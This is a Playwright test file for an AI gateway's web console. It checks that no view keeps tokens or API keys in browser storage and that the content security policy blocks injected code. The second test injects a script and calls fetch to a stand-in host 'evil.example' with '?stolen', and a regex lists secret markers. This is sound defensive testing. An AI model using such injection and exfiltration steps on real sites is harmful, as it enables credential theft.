// What a script that got into the console would find, and whether one could.
import { expect, test } from '../../fixtures/console.ts'
import { ANTHROPIC_KEY } from '../../fixtures/gateway.ts'

const VIEWS = [
  '/',
  '/requests',
  '/credentials',
  '/credentials/new',
  '/projects',
  '/credentials/new?kind=anthropic-oauth',
  '/models',
  '/people',
  '/api-tokens',
  '/access',
  '/audit',
  '/system',
]

test('no view needs what the content security policy forbids, and none keeps a secret in the browser', async ({
  console: page,
  gateway,
}) => {
  const { id } = await gateway.projectOn('anthropic')
  // The page of the test fails on any violation, which browsers report as an error.
  for (const view of [...VIEWS, `/projects/${id}/keys`, `/projects/${id}/connect`]) {
    await page.goto(view)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  const kept = await page.evaluate(async () =>
    JSON.stringify({
      local: Object.entries(localStorage),
      session: Object.entries(sessionStorage),
      cookies: document.cookie,
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
    }),
  )
  expect(kept).not.toMatch(/token|session_|sk-ant|hg_live|password|secret/i)
  expect(kept).not.toContain(ANTHROPIC_KEY)
  expect(JSON.parse(kept)).toMatchObject({ cookies: '', databases: [], caches: [] })
  const cookies = await page.context().cookies()
  expect(cookies.map(({ httpOnly, sameSite }) => ({ httpOnly, sameSite }))).toEqual(
    cookies.map(() => ({ httpOnly: true, sameSite: 'Lax' })),
  )
  expect(cookies.length).toBeGreaterThan(0)
})

test('what is written into a page does not run, and no page frames it', async ({ gateway, browser }) => {
  const context = await browser.newContext({ baseURL: gateway.url })
  const page = await context.newPage()
  await page.goto('/sign-in')
  const violations = await page.evaluate(async () => {
    const seen: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
    const script = document.createElement('script')
    script.textContent = 'globalThis.ran = true'
    document.body.append(script)
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.body.append(style)
    await fetch('https://evil.example/?stolen').catch(() => undefined)
    await new Promise((resolve) => setTimeout(resolve, 100))
    return { seen, ran: 'ran' in globalThis }
  })
  expect(violations.ran).toBe(false)
  expect(violations.seen).toEqual(
    expect.arrayContaining(['script-src-elem', 'style-src-elem', 'connect-src']),
  )
  await context.close()
})
